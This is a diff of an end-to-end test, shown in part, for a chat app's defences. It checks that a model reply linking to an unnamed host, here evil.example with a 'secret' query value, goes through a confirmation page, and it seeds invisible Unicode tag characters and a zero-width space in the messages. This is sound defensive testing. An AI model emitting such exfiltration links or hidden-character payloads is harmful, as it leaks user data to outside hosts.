@@ -1,12 +1,12 @@
 // Links of a reply that lead to hosts which the person never named, without script: a page asks first. And what is not
 // seen in messages is counted.
-import { latestReply, send, textOf } from "../../support/chat.ts";
+import { latestReply, sendMessage, textOf } from "../../support/chat.ts";
 import { expect, test } from "../../support/fixtures.ts";
 
 test("a link to a host that was not named leads to a page that asks", async ({ page, model }) => {
   await page.goto("/");
-  await send(page, "What is on docs.example.org?\u{e0061}\u{e0062}");
-  (await model.next()).answer("Read [this](https://docs.example.org/a) or [that](https://evil.example/x?q=secret).\u200b");
+  await sendMessage(page, "What is on docs.example.org?\u{e0061}\u{e0062}");
+  (await model.nextReply()).finishWithText("Read [this](https://docs.example.org/a) or [that](https://evil.example/x?q=secret).\u200b");
   await expect(async () => {
     await page.reload();
     await expect(latestReply(page)).toHaveAttribute("data-status", "complete", { timeout: 500 });
